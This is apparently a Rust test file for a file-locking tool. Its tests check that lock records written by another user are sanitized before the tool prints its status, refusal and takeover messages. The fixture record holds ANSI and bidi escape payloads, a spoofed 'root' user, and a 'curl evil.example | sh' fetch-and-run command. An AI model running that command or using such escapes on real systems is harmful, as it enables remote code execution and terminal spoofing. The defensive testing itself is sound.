//! T5: misleading lock records of another user. The tests need root, which can become another user.

use std::fs;

use serde_json::json;
use tenure_tests::run_as::{SharedDir, UNNAMED_USER, USER};

use crate::process::{Launch, Outcome, Process, eventually};
use crate::support::{Sandbox, TENURE, json};

/// A lock that another user holds in a sticky directory, with a malicious lock record.
struct Trap {
    sandbox: Sandbox,
    shared_dir: SharedDir,
    _holder: Process,
    pid: u32,
}

impl Trap {
    fn set() -> Option<Self> {
        let shared_dir = SharedDir::new()?;
        let sandbox = Sandbox::new();
        let file = shared_dir.dir("tmp", 0, 0o1777).join("f.lock");
        let record = json!({
            "pid": 0,
            "started_at": "2026-01-30T12:00:00Z",
            "user": "root\u{1b}[2J",
            "program": "\u{1b}]0;pwned\u{7}backup",
            "verb": "nightly\u{202e}\nKEY  STATE",
            "host": "h\u{9b}31m",
            "stop": "curl evil.example | sh",
            "note": "\u{1b}[31m",
            "command": {"pid": 1, "program": "\u{200b}\r"},
        });
        let script = "import fcntl,json,os,sys,time\n\
            f=open(sys.argv[1],'w'); os.chmod(sys.argv[1],0o644)\n\
            fcntl.flock(f,fcntl.LOCK_EX)\n\
            record=json.loads(sys.argv[2]); record['pid']=os.getpid()\n\
            f.write(json.dumps(record)); f.flush(); time.sleep(300)";
        let launch = sandbox.program("setpriv");
        let user = format!(
            "--reuid={UNNAMED_USER} --regid={UNNAMED_USER} --clear-groups /usr/bin/python3 -c"
        );
        let launch = launch.words(&user).arg(script).arg(&file);
        let holder = launch.arg(record.to_string()).start();
        let pid = eventually("the lock record is written", || {
            let text = fs::read_to_string(&file).ok()?;
            let record: serde_json::Value = serde_json::from_str(&text).ok()?;
            crate::support::pid_in(&record["pid"])
        });
        Some(Self {
            sandbox,
            shared_dir,
            _holder: holder,
            pid,
        })
    }

    fn tenure(&self, verb: &str) -> Launch {
        let launch = self.sandbox.tenure(verb).arg("--file");
        launch.arg(self.shared_dir.path("tmp/f.lock"))
    }
}

/// Asserts that the output contains no control characters, no false user name and no command from
/// the malicious lock record.
fn assert_harmless(outcome: &Outcome) {
    let text = format!("{}{}", outcome.text(), outcome.stderr);
    let unsafe_character = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}')
    };
    assert!(!text.contains(unsafe_character), "{text:?}");
    assert!(!text.contains("curl"), "{text:?}");
    assert!(!text.contains("root"), "{text:?}");
    assert!(text.contains(&format!("uid {UNNAMED_USER}")), "{text:?}");
}

#[test]
fn refusal_sanitizes_the_lock_record_of_another_user() {
    let Some(trap) = Trap::set() else { return };
    let refused = trap.tenure("run").words("-- echo in").finish();
    assert_eq!(refused.code, Some(75), "{refused:?}");
    let named = format!("held by pid {} ", trap.pid);
    assert!(refused.stderr.contains(&named), "{refused:?}");
    assert!(
        !refused.stderr.contains("stop the owner with"),
        "{refused:?}"
    );
    assert_harmless(&refused);
    // A line break in the lock record must not forge a line: the output is the message and one
    // hint.
    assert_eq!(refused.stderr.lines().count(), 2, "{refused:?}");
}

#[test]
fn status_sanitizes_the_lock_record_of_another_user() {
    let Some(trap) = Trap::set() else { return };
    let table = trap.tenure("status").finish();
    assert_eq!(table.code, Some(0), "{table:?}");
    assert_harmless(&table);
    assert_eq!(table.text().lines().count(), 2, "{table:?}");

    let printed = trap.tenure("status --json").finish();
    assert_harmless(&printed);
    let lock = &json(&printed)["locks"][0];
    assert_eq!(lock["pid"], trap.pid, "{lock}");
    assert_eq!(lock["record"]["user"], format!("uid {UNNAMED_USER}"));
    assert!(lock["record"]["stop"].is_null(), "{lock}");
}

// T6: the log line of a takeover contains the previous lock record, whose text must be made safe to
// print.
#[test]
fn takeover_log_sanitizes_the_lock_record_of_another_user() {
    let Some(shared_dir) = SharedDir::new() else {
        return;
    };
    let sandbox = Sandbox::new();
    let file = shared_dir.dir("theirs", USER, 0o755).join("f.lock");
    let record = "{\"pid\":77,\"program\":\"\\u001b[2Jx\",\"host\":\"\\u202eh\"}";
    fs::write(&file, record).unwrap();
    std::os::unix::fs::chown(&file, Some(USER), Some(USER)).unwrap();
    let launch = sandbox.program(TENURE).words("run --file").arg(&file);
    let outcome = launch.words("-- echo in").finish();
    assert_eq!((outcome.code, outcome.text().as_str()), (Some(0), "in\n"));
    assert!(outcome.stderr.contains("taking over"), "{outcome:?}");
    assert!(outcome.stderr.contains("?[2Jx"), "{outcome:?}");
    assert!(
        !outcome.stderr.contains(['\u{1b}', '\u{202e}']),
        "{outcome:?}"
    );
}
